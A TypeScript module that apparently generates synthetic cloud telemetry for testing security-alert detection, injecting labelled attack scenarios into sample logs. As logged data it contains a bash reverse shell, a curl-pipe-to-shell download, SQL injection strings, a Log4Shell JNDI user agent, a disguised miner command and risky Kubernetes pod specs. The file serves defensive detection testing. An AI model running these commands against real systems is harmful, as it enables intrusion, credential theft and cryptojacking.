/**
 * Attacks injected into the sample telemetry, each in its own file(s) and labelled with the alert it must raise.
 * Every attack is built around one signal (a Tor address, a malware hash, a miner image, a burst of failed logins,
 * ...) and keeps the rest usual — the resource's known identities, clients and agents — so that it stands for exactly
 * one alert type. Alert types, plans and severities are those of Defender for Cloud's alert reference
 * (../shared/data/alerts/alert-types.json).
 *
 * Threat-intel facts used: Tor exit relays 204.8.96.141, 204.137.14.106, 185.220.101.33 and 192.42.116.43 (Tor
 * consensus data, CC0, as listed in alireza-rezaee/tor-nodes `latest.exits.csv`, MIT); the MD5 of the EICAR test file
 * (44d88612fea8a8f36de82e1278abb02f, base64 RNiGEv6oqPNt6C4SeKuwLw==). Other attacker addresses are in the RFC 5737
 * documentation ranges (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24).
 */
import type { PlanName } from './constants.js';
import type { Rng } from './prng.js';
import type { SampleTelemetryContext } from './telemetry-context.js';
import { PLAN_OF_KIND, type TelemetryResource, type TelemetryResourceKind } from './telemetry-inventory.js';
import { auditdLines, apimRow, k8sEvent, sqlRow, storageRecord, syslogLine, sysmonRecord, vaultRecord, type ExecOp, type K8sOp, type SqlOp, type StorageOp } from './telemetry-records.js';

export type AlertSeverity = 'Informational' | 'Low' | 'Medium' | 'High';

export const TOR_EXITS = { storage: '192.42.116.43', vault: '204.8.96.141', api: '185.220.101.33', free: '204.137.14.106' } as const;
export const EICAR_MD5_BASE64 = 'RNiGEv6oqPNt6C4SeKuwLw==';
export const MINER_IMAGE = 'xmrig/xmrig:latest';

export interface AttackScenario {
  key: string;
  alertType: string;
  plan: PlanName;
  severity: AlertSeverity;
  kind: TelemetryResourceKind;
  /** Resources this attack prefers (others are used when none qualifies). */
  prefer?: (r: TelemetryResource) => boolean;
  /** Writes the attack starting at `start` into files named after `id`; returns the files and a description. */
  write(ctx: SampleTelemetryContext, target: TelemetryResource, start: number, id: string): { files: string[]; description: string };
}

/** What differs between the Kubernetes attacks: the request itself. */
interface K8sRequest {
  verb: string;
  objectRef: K8sOp['objectRef'];
  code: number;
  requestURI: string;
  /** When set, the request is logged at level RequestResponse with this body. */
  requestObject?: Record<string, unknown>;
}

/** Logs one request to the cluster's API server, made by its usual operator (user, address and client). */
function k8sRequest(ctx: SampleTelemetryContext, cluster: TelemetryResource, start: number, id: string, request: K8sRequest): string {
  const p = ctx.profile(cluster);
  const path = ctx.hostFile('kubernetesAudit', `attack-${id}`, '.jsonl', cluster);
  const op: Omit<K8sOp, 'auditId'> = {
    time: start,
    user: { username: p.user.upn ?? 'sre@contoso.com', groups: ['sg-platform-engineers', 'system:authenticated'] },
    sourceIp: p.internalIps[0],
    userAgent: p.userAgent,
    ...request,
    ...(request.requestObject === undefined ? {} : { level: 'RequestResponse' as const }),
  };
  ctx.files.add(path, 'jsonl', op.time, k8sEvent({ ...op, auditId: ctx.rng('attack-audit-id', path, String(op.time)).guid() }));
  return path;
}

function podCreation(name: string, namespace: string, container: Record<string, unknown>, volumes: unknown[] = []): K8sRequest {
  return {
    verb: 'create',
    objectRef: { resource: 'pods', namespace, name, apiVersion: 'v1' },
    code: 201,
    requestURI: `/api/v1/namespaces/${namespace}/pods`,
    requestObject: { kind: 'Pod', apiVersion: 'v1', metadata: { name, namespace, labels: { app: name } }, spec: { containers: [{ name, ...container }], volumes, restartPolicy: 'Always' } },
  };
}

function execs(ctx: SampleTelemetryContext, vm: TelemetryResource, id: string, format: 'auditd' | 'sysmon', ops: Array<Omit<ExecOp, 'serial' | 'host'>>): string {
  const path = format === 'auditd' ? ctx.hostFile('processEvent', `attack-${id}`, '.log', vm) : ctx.hostFile('processEvent', `attack-${id}`, '.jsonl', vm);
  const rng = ctx.rng('attack-exec', id);
  for (const o of ops) {
    const op: ExecOp = { ...o, serial: ctx.nextSerial(), host: vm.name };
    if (format === 'auditd') ctx.files.add(path, 'lines', op.time, auditdLines(op));
    else ctx.files.add(path, 'jsonl', op.time, sysmonRecord(op, rng.guid(), rng.guid()));
  }
  return path;
}

const WEB_PARENT = { parentImage: '/usr/sbin/php-fpm8.2', parentCommandLine: 'php-fpm: pool www', uid: 33, user: 'www-data', cwd: '/var/www/html' };

function sshLines(ctx: SampleTelemetryContext, vm: TelemetryResource, id: string, start: number, ip: string, attempts: number, success: string | undefined): string {
  const path = ctx.hostFile('sshAuth', `attack-${id}`, '.log', vm);
  const rng = ctx.rng('attack-ssh', id);
  const admin = vm.adminUser ?? 'azureuser';
  const guesses = ['admin', 'test', 'oracle', 'ubuntu', 'postgres', 'git', 'user', 'deploy', 'ftpuser', 'pi'];
  let t = start;
  let pid = rng.int(20_000, 40_000);
  for (let i = 0; i < attempts; i++) {
    t += rng.int(2_000, 6_000);
    pid += rng.int(1, 9);
    const port = rng.int(30_000, 65_000);
    if (i % 3 === 2) {
      ctx.files.add(path, 'lines', t, syslogLine(t, vm.name, 'sshd', pid, `Failed password for ${admin} from ${ip} port ${port} ssh2`));
    } else {
      const user = guesses[i % guesses.length];
      ctx.files.add(path, 'lines', t, syslogLine(t, vm.name, 'sshd', pid, `Invalid user ${user} from ${ip} port ${port}`));
      ctx.files.add(path, 'lines', t + 1_500, syslogLine(t + 1_500, vm.name, 'sshd', pid, `Failed password for invalid user ${user} from ${ip} port ${port} ssh2`));
    }
  }
  if (success !== undefined) {
    t += rng.int(2_000, 6_000);
    ctx.files.add(path, 'lines', t, syslogLine(t, vm.name, 'sshd', pid + 3, `Accepted password for ${success} from ${ip} port ${rng.int(30_000, 65_000)} ssh2`));
    ctx.files.add(path, 'lines', t + 4, syslogLine(t + 4, vm.name, 'sshd', pid + 3, `pam_unix(sshd:session): session opened for user ${success}(uid=1000) by (uid=0)`), 0);
  }
  return path;
}

function apimRequests(ctx: SampleTelemetryContext, service: TelemetryResource, id: string, requests: Array<{ time: number; ip: string; path: string; apiId: string; operationId: string; status: number; userAgent: string }>): string {
  const path = `apim/attack-${id}.jsonl`;
  const rng = ctx.rng('attack-apim', id);
  for (const r of requests) {
    ctx.files.add(path, 'jsonl', r.time, apimRow(service, ctx.tenantId, { ...r, method: 'GET', requestSize: rng.int(300, 700), responseSize: r.status < 400 ? rng.int(900, 3_000) : 180, totalTime: rng.int(10, 90), productId: 'mobile', subscriptionName: `app-${rng.alnum(6)}`, correlationId: rng.guid() }));
  }
  return path;
}

/** A blob request of the account's usual application identity and client; its port, then `details`, then its correlation id are drawn from `rng`. */
function blobRequest(
  ctx: SampleTelemetryContext,
  account: TelemetryResource,
  path: string,
  rng: Rng,
  request: { time: number; operation: string; status: number; ip: string; container: string },
  details: () => Pick<StorageOp, 'blob' | 'requestBodySize' | 'responseBodySize' | 'requestMd5'>,
): void {
  const p = ctx.profile(account);
  const { time, operation, status, ip, container } = request;
  const caller = `${ip}:${rng.int(30_000, 65_000)}`;
  const auth = { type: 'OAuth' as const, objectId: p.app.oid, appId: p.app.appid, tenantId: ctx.tenantId };
  ctx.files.add(path, 'envelope', time, storageRecord(account, { time, operation, status, statusText: 'Success', caller, auth, userAgent: p.userAgent, container, ...details(), correlationId: rng.guid() }));
}

/** One step of a SQL session: the delay before it (drawn when given), what it does and how it ends. */
interface SqlStep {
  delay?: [number, number];
  actionId: SqlOp['actionId'];
  succeeded: boolean;
  statement?: string;
  errorCode?: number;
}

/** One session of `principal` from `client`: its id is drawn first, then each step's delay; sequence numbers count from 1. */
function sqlSession(ctx: SampleTelemetryContext, db: TelemetryResource, id: string, start: number, client: { principal: string; ip: string; application: string; host: string }, steps: readonly SqlStep[]): string {
  const rng = ctx.rng('attack', id);
  const path = `sqlAudit/attack-${id}.jsonl`;
  const sessionId = rng.int(51, 180);
  let t = start;
  steps.forEach((step, i) => {
    if (step.delay !== undefined) t += rng.int(step.delay[0], step.delay[1]);
    ctx.files.add(path, 'jsonl', t, sqlRow(db, ctx.tenantId, { time: t, actionId: step.actionId, succeeded: step.succeeded, principal: client.principal, clientIp: client.ip, application: client.application, host: client.host, statement: step.statement ?? '', errorCode: step.errorCode, affectedRows: 0, responseRows: 0, sessionId, sequence: i + 1 }));
  });
  return path;
}

const BROWSER = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/127.0.0.0 Safari/537.36';

/** An attack on a resource of `kind`; its plan is the one that covers that kind. */
function attack(kind: TelemetryResourceKind, key: string, alertType: string, severity: AlertSeverity, write: AttackScenario['write'], prefer?: AttackScenario['prefer']): AttackScenario {
  return { key, alertType, plan: PLAN_OF_KIND[kind], severity, kind, ...(prefer === undefined ? {} : { prefer }), write };
}

/** A Kubernetes attack: one request with a fixed description. */
function k8sAttack(key: string, alertType: string, severity: AlertSeverity, request: K8sRequest, description: string): AttackScenario {
  return attack('aks', key, alertType, severity, (ctx, cluster, start, id) => ({ files: [k8sRequest(ctx, cluster, start, id, request)], description }));
}

export const ATTACKS: readonly AttackScenario[] = [
  attack('storage', 'storage-malware-upload', 'Storage.Blob_MalwareHashReputation', 'High', (ctx, account, start, id) => {
    const p = ctx.profile(account);
    const rng = ctx.rng('attack', id);
    const path = `storageBlob/attack-${id}.json`;
    const blob = `incoming/invoice-20260831-${rng.int(1000, 9999)}.pdf.com`;
    blobRequest(ctx, account, path, rng, { time: start, operation: 'PutBlob', status: 201, ip: p.internalIps[0], container: p.objects[0] }, () => ({ blob, requestBodySize: 68, requestMd5: EICAR_MD5_BASE64 }));
    return { files: [path], description: `A single-shot PutBlob uploads ${p.objects[0]}/${blob}, whose Content-MD5 (${EICAR_MD5_BASE64}) is the EICAR test file's hash, with the account's usual application identity.` };
  }),
  attack('storage', 'storage-tor-access', 'Storage.Blob_TorAnomaly', 'High', (ctx, account, start, id) => {
    const p = ctx.profile(account);
    const rng = ctx.rng('attack', id);
    const path = `storageBlob/attack-${id}.json`;
    const container = p.objects[1] ?? p.objects[0];
    let t = start;
    blobRequest(ctx, account, path, rng, { time: t, operation: 'ListBlobs', status: 200, ip: TOR_EXITS.storage, container }, () => ({ responseBodySize: 6_144 }));
    for (let i = 0; i < 3; i++) {
      t += rng.int(3_000, 20_000);
      blobRequest(ctx, account, path, rng, { time: t, operation: 'GetBlob', status: 200, ip: TOR_EXITS.storage, container }, () => ({ blob: `2026/08/${rng.int(10, 30)}/${rng.alnum(10)}.csv`, responseBodySize: rng.int(20_000, 900_000) }));
    }
    return { files: [path], description: `The account's usual application identity lists container ${container} and reads three blobs from the Tor exit node ${TOR_EXITS.storage}.` };
  }),
  attack('keyVault', 'keyvault-tor-access', 'KV_TORAccess', 'Medium', (ctx, vault, start, id) => {
    const p = ctx.profile(vault);
    const rng = ctx.rng('attack', id);
    const path = `keyVault/attack-${id}.jsonl`;
    const ip = id.startsWith('free-') ? TOR_EXITS.free : TOR_EXITS.vault;
    let t = start;
    for (const secret of p.objects.slice(0, 2)) {
      t += rng.int(1_000, 8_000);
      ctx.files.add(path, 'jsonl', t, vaultRecord(vault, { time: t, operation: 'SecretGet', ip, identity: p.app, clientInfo: p.userAgent, object: `secrets/${secret}`, version: rng.hex(32), status: 200, correlationId: rng.guid() }));
    }
    return { files: [path], description: `The vault's usual application identity reads secrets ${p.objects.slice(0, 2).join(' and ')} from the Tor exit node ${ip}.` };
  }),
  attack('sqlDatabase', 'sql-brute-force', 'SQL.DB_BruteForce', 'High', (ctx, db, start, id) => {
    const p = ctx.profile(db);
    const ip = '203.0.113.77';
    const delay: [number, number] = [2_000, 5_000];
    const failed: SqlStep = { delay, actionId: 'DBAF', succeeded: false, errorCode: 18456 };
    const steps: SqlStep[] = [...Array.from({ length: 40 }, () => failed), { delay, actionId: 'DBAS', succeeded: true }];
    const path = sqlSession(ctx, db, id, start, { principal: p.serviceAccount, ip, application: 'Microsoft SQL Server Management Studio', host: 'WIN-8J3K2L1' }, steps);
    return { files: [path], description: `40 failed logins (error 18456) for the application login ${p.serviceAccount} from ${ip} within about three minutes, then a successful one from the same address.` };
  }),
  attack('sqlDatabase', 'sql-injection', 'SQL.DB_VulnerabilityToSqlInjection', 'Medium', (ctx, db, start, id) => {
    const p = ctx.profile(db);
    const table = p.objects[0];
    const batch = (statement: string, errorCode: number): SqlStep => ({ delay: [1_000, 15_000], actionId: 'BCM', succeeded: false, statement, errorCode });
    const path = sqlSession(ctx, db, id, start, { principal: p.serviceAccount, ip: p.internalIps[0], application: p.userAgent, host: p.host }, [
      { actionId: 'DBAS', succeeded: true },
      batch(`SELECT * FROM [dbo].[${table}] WHERE [Reference] = 'A-1001'' OR ''1''=''1' --'`, 105),
      batch(`SELECT * FROM [dbo].[${table}] WHERE [Reference] = 'A-1001' UNION SELECT name, password_hash FROM sys.sql_logins --'`, 102),
      batch(`SELECT * FROM [dbo].[${table}] WHERE [Reference] = 'A-1001'; WAITFOR DELAY '0:0:5' --'`, 102),
    ]);
    return { files: [path], description: `The web application's own login sends three batches built from unescaped input on table ${table}; they fail with syntax errors 105 and 102.` };
  }),
  k8sAttack(
    'k8s-miner-pod',
    'K8S_MaliciousContainerImage',
    'High',
    podCreation('metrics-agent', 'default', { image: MINER_IMAGE, args: ['--donate-level=1', '-o', 'pool.example.net:443', '--tls'], resources: { limits: { cpu: '2' } } }),
    `A pod named metrics-agent is created in namespace default from the mining image ${MINER_IMAGE}.`,
  ),
  k8sAttack(
    'k8s-exposed-dashboard',
    'K8S_ExposedDashboard',
    'High',
    {
      verb: 'create',
      objectRef: { resource: 'services', namespace: 'kubernetes-dashboard', name: 'kubernetes-dashboard', apiVersion: 'v1' },
      code: 201,
      requestURI: '/api/v1/namespaces/kubernetes-dashboard/services',
      requestObject: { kind: 'Service', apiVersion: 'v1', metadata: { name: 'kubernetes-dashboard', namespace: 'kubernetes-dashboard', labels: { 'k8s-app': 'kubernetes-dashboard' } }, spec: { type: 'LoadBalancer', ports: [{ port: 443, targetPort: 8443, protocol: 'TCP' }], selector: { 'k8s-app': 'kubernetes-dashboard' } } },
    },
    'The Kubernetes Dashboard is exposed to the internet: a Service of type LoadBalancer named kubernetes-dashboard is created in namespace kubernetes-dashboard.',
  ),
  k8sAttack(
    'k8s-privileged-container',
    'K8S_PrivilegedContainer',
    'Informational',
    podCreation('node-debugger', 'default', { image: 'mcr.microsoft.com/cbl-mariner/busybox:2.0', command: ['sleep', '3600'], securityContext: { privileged: true } }),
    'A pod node-debugger is created with a privileged container (securityContext.privileged: true).',
  ),
  k8sAttack(
    'k8s-sensitive-mount',
    'K8S_SensitiveMount',
    'Informational',
    podCreation('log-shipper', 'default', { image: 'contosoacr.azurecr.io/log-shipper:2.1.0', volumeMounts: [{ name: 'host-etc', mountPath: '/host/etc', readOnly: true }] }, [{ name: 'host-etc', hostPath: { path: '/etc', type: 'Directory' } }]),
    "A pod log-shipper mounts the node's /etc through a hostPath volume.",
  ),
  k8sAttack(
    'k8s-cluster-admin-binding',
    'K8S_ClusterAdminBinding',
    'Informational',
    {
      verb: 'create',
      objectRef: { resource: 'clusterrolebindings', name: 'support-temp-admin', apiGroup: 'rbac.authorization.k8s.io', apiVersion: 'v1' },
      code: 201,
      requestURI: '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings',
      requestObject: { kind: 'ClusterRoleBinding', apiVersion: 'rbac.authorization.k8s.io/v1', metadata: { name: 'support-temp-admin' }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: 'vendor-support@fabrikam.example' }] },
    },
    'A ClusterRoleBinding support-temp-admin binds an outside user to the cluster-admin role.',
  ),
  k8sAttack(
    'k8s-delete-events',
    'K8S_DeleteEvents',
    'Low',
    { verb: 'deletecollection', objectRef: { resource: 'events', namespace: 'default', apiVersion: 'v1' }, code: 200, requestURI: '/api/v1/namespaces/default/events' },
    'All Kubernetes events of namespace default are deleted (deletecollection on events).',
  ),
  attack(
    'linuxVm',
    'vm-ssh-brute-force-success',
    'VM_SshBruteForceSuccess',
    'High',
    (ctx, vm, start, id) => {
      const ip = '203.0.113.45';
      const admin = vm.adminUser ?? 'azureuser';
      const path = sshLines(ctx, vm, id, start, ip, 45, admin);
      return { files: [path], description: `45 failed SSH password logons (mostly invalid users, some for ${admin}) from ${ip} within a few minutes, then an accepted password logon for ${admin} from the same address.` };
    },
    (vm) => vm.passwordAuth === true,
  ),
  attack('linuxVm', 'vm-ssh-brute-force-failed', 'VM_SshBruteForceFailed', 'Medium', (ctx, vm, start, id) => {
    const ip = '192.0.2.66';
    const path = sshLines(ctx, vm, id, start, ip, 36, undefined);
    return { files: [path], description: `36 failed SSH password logons from ${ip} within a few minutes, none successful.` };
  }),
  attack('linuxVm', 'vm-reverse-shell', 'VM_ReverseShell', 'Medium', (ctx, vm, start, id) => {
    const path = execs(ctx, vm, id, 'auditd', [{ time: start, pid: 31_337, ppid: 1_834, exe: '/usr/bin/bash', argv: ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1'], ...WEB_PARENT }]);
    return { files: [path], description: 'The web server user www-data starts bash -i with its input and output redirected to /dev/tcp/203.0.113.10/4444 (auditd EXECVE, arguments hex-encoded).' };
  }),
  attack('linuxVm', 'vm-crypto-miner', 'VM_CryptoCoinMinerExecution', 'Medium', (ctx, vm, start, id) => {
    const path = execs(ctx, vm, id, 'sysmon', [{ time: start, pid: 41_002, ppid: 41_001, exe: '/var/tmp/.cache/kswapd0', argv: ['/var/tmp/.cache/kswapd0', '-o', 'stratum+tcp://pool.example.net:3333', '-u', '4AbCdEfGhIjKlMnOpQrStUvWxYz0123456789', '--donate-level=0', '--cpu-priority=5'], cwd: '/var/tmp/.cache', uid: 33, user: 'www-data', parentImage: '/usr/bin/nohup', parentCommandLine: 'nohup /var/tmp/.cache/kswapd0' }]);
    return { files: [path], description: 'A binary disguised as kswapd0 starts with a stratum+tcp mining pool, a wallet and --donate-level=0 (Sysmon process creation).' };
  }),
  attack('linuxVm', 'vm-download-and-run', 'VM_DownloadAndRunCombo', 'Medium', (ctx, vm, start, id) => {
    const script = 'curl -fsSL http://203.0.113.10/x.sh | sh';
    const path = execs(ctx, vm, id, 'sysmon', [
      { time: start, pid: 52_010, ppid: 1_834, exe: '/usr/bin/dash', argv: ['sh', '-c', script], ...WEB_PARENT },
      { time: start + 15, pid: 52_011, ppid: 52_010, exe: '/usr/bin/curl', argv: ['curl', '-fsSL', 'http://203.0.113.10/x.sh'], cwd: '/var/www/html', uid: 33, user: 'www-data', parentImage: '/usr/bin/dash', parentCommandLine: `sh -c ${script}` },
    ]);
    return { files: [path], description: `The web server user runs "${script}": a script is downloaded and piped straight into a shell.` };
  }),
  attack('apim', 'api-parameter-enumeration', 'API_ParameterEnumeration', 'Medium', (ctx, service, start, id) => {
    const rng = ctx.rng('attack', id);
    const ip = '198.51.100.23';
    const first = 100_000 + rng.int(0, 800_000);
    const requests = Array.from({ length: 300 }, (_, i) => ({ time: start + i * 2_000, ip, path: `/orders/v1/orders/${first + i}`, apiId: 'orders-api', operationId: 'get-order', status: rng.chance(0.04) ? 200 : 404, userAgent: BROWSER }));
    const path = apimRequests(ctx, service, id, requests);
    return { files: [path], description: `${ip} requests 300 consecutive order ids (${first}-${first + 299}) on orders-api get-order in ten minutes, nearly all answered 404.` };
  }),
  attack('apim', 'api-tor-access', 'API_AccessFromTorExitNode', 'Medium', (ctx, service, start, id) => {
    const ip = id.startsWith('free-') ? TOR_EXITS.free : TOR_EXITS.api;
    const requests = Array.from({ length: 4 }, (_, i) => ({ time: start + i * 7_000, ip, path: `/catalog/v1/products?page=${i + 1}&size=20`, apiId: 'catalog-api', operationId: 'list-products', status: 200, userAgent: BROWSER }));
    const path = apimRequests(ctx, service, id, requests);
    return { files: [path], description: `Four ordinary catalog requests come from the Tor exit node ${ip}.` };
  }),
  attack('apim', 'api-suspicious-user-agent', 'API_AccessFromSuspiciousUserAgent', 'Medium', (ctx, service, start, id) => {
    const ip = '203.0.113.99';
    const agent = '${jndi:ldap://203.0.113.99:1389/a}';
    const requests = [0, 1].map((i) => ({ time: start + i * 4_000, ip, path: `/catalog/v1/products?page=${i + 1}&size=20`, apiId: 'catalog-api', operationId: 'list-products', status: 400, userAgent: agent }));
    const path = apimRequests(ctx, service, id, requests);
    return { files: [path], description: `Two requests from ${ip} carry a Log4Shell JNDI lookup (${agent}) as their User-Agent.` };
  }),
];

/** Attacks repeated on subscriptions whose plan for the workload is Free: they must raise nothing. */
export const FREE_REPEATS: readonly string[] = ['storage-malware-upload', 'keyvault-tor-access', 'sql-brute-force', 'k8s-miner-pod', 'vm-ssh-brute-force-success', 'vm-reverse-shell', 'api-tor-access'];

